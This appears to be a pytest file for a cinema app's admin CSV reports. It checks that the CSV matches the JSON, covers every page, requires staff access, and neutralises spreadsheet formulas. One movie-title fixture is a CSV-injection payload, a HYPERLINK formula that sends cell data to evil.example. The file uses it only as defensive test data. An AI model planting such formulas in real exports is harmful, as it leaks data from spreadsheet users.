"""The staff reports as CSV (issue 16): text/csv attachments holding the JSON's rows (every page of the
range), with spreadsheet formulas in text cells neutralised."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta, timezone

from app.models import Role
from app.services.report_csv import cell
from tests.api.test_reports import get, known_sales, sell  # noqa: F401  (the known_sales fixture)
from tests.factories import auth_headers, make_movie, make_screen, make_showtime, make_user


def _csv(client, url, user) -> list[dict[str, str]]:
    response = client.get(url, headers=auth_headers(user))
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="')
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def test_sales_csv_rows_equal_the_json(client, known_sales):  # noqa: F811  (the fixture)
    admin = make_user(role=Role.ADMIN)
    for group_by in ("day", "movie", "theatre"):
        query = f"from=2026-03-01&to=2026-03-03&group_by={group_by}"
        body = get(client, f"/api/admin/reports/sales?{query}&per_page=100", admin)
        rows = _csv(client, f"/api/admin/reports/sales?{query}&format=csv", admin)
        assert [(r["key"], r["label"], int(r["bookings"]), int(r["seats_sold"]), int(r["gross_paise"]),
                 int(r["refunds_paise"]), int(r["net_paise"]), r["currency"]) for r in rows] == [
            (i["key"], i["label"], i["bookings"], i["seats_sold"], i["gross"]["amount"], i["refunds"]["amount"],
             i["net"]["amount"], "INR") for i in body["items"]]


def test_occupancy_csv_holds_every_page_and_neutralises_formulas(client, ctx):
    admin = make_user(role=Role.ADMIN)
    evil = make_movie(title='=HYPERLINK("https://evil.example/?"&A1,"Click")')
    screen = make_screen(theatre_name="@SUM(1+1)")
    start = datetime.now(timezone.utc).replace(microsecond=0) + timedelta(days=1)
    for hour in range(3):
        make_showtime(evil, screen, starts_at=start + timedelta(hours=4 * hour))
    sell(make_showtime(evil, screen, starts_at=start + timedelta(hours=13)), admin, ["C3"], 20_000,
         datetime.now(timezone.utc))
    day = start.date().isoformat()
    query = f"from={day}&to={(start + timedelta(days=1)).date().isoformat()}"
    pages = [get(client, f"/api/admin/reports/occupancy?{query}&per_page=2&page={p}", admin) for p in (1, 2)]
    items = pages[0]["items"] + pages[1]["items"]
    rows = _csv(client, f"/api/admin/reports/occupancy?{query}&format=csv&per_page=2", admin)
    assert len(rows) == len(items) == 4  # every page, whatever per_page says
    assert [int(r["showtime_id"]) for r in rows] == [i["showtime_id"] for i in items]
    assert [int(r["sold"]) for r in rows] == [i["sold"] for i in items]
    assert all(r["movie_title"] == "'" + evil.title for r in rows)  # a spreadsheet shows it, never runs it
    assert all(r["theatre_name"] == "'@SUM(1+1)" for r in rows)


def test_csv_needs_staff_and_a_known_format(client, ctx):
    user = make_user()
    assert client.get("/api/admin/reports/sales?format=csv", headers=auth_headers(user)).status_code == 403
    admin = make_user(role=Role.ADMIN)
    bad = client.get("/api/admin/reports/sales?format=xlsx", headers=auth_headers(admin))
    assert bad.status_code == 422 and bad.get_json()["error"]["code"] == "validation_error"


def test_cells():
    assert [cell(v) for v in ("=1+1", "+1", "-2", "@x", "\tx", "\rx", "plain", -500, 1.5, None, True)] == [
        "'=1+1", "'+1", "'-2", "'@x", "'\tx", "'\rx", "plain", -500, 1.5, "", True]
